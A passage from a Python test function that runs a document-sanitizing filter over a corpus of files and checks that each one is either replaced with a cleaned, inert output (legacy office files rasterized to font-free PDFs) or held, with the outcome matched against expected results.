) -> None:
    assert path is not None
    data = path.read_bytes()
    part = make_part(data, path.name)
    key = path.relative_to(CORPUS_DOCS).as_posix()
    if not FILTER.applies_to(part):
        assert key not in EXPECTED
        return
    try:
        verdict = FILTER.process(part, ctx)
    except SandboxError:
        verdict = Verdict(Action.HOLD, reason="filter-error")  # what the runner makes of it
    assert verdict.action in (Action.REPLACE, Action.HOLD), verdict
    if verdict.action is Action.REPLACE:
        assert verdict.output is not None and verdict.output.data != data
        if verdict.output.content_type == "application/pdf":  # a legacy file, rasterized
            assert verdict.notes == ("office-rasterized",)
            pdf = assert_inert(verdict.output.data)
            assert all(page.obj.Resources.get("/Font") is None for page in pdf.pages)
        else:
            check_output(verdict.output.data, verdict.output.content_type, tmp_path, hyperlinks=False)
        outcome: tuple[str, str | dict[str, int]] = ("replace", dict(verdict.removed))
    else:
        outcome = ("hold", verdict.reason)
    if key in EXPECTED:
        assert outcome == EXPECTED[key]
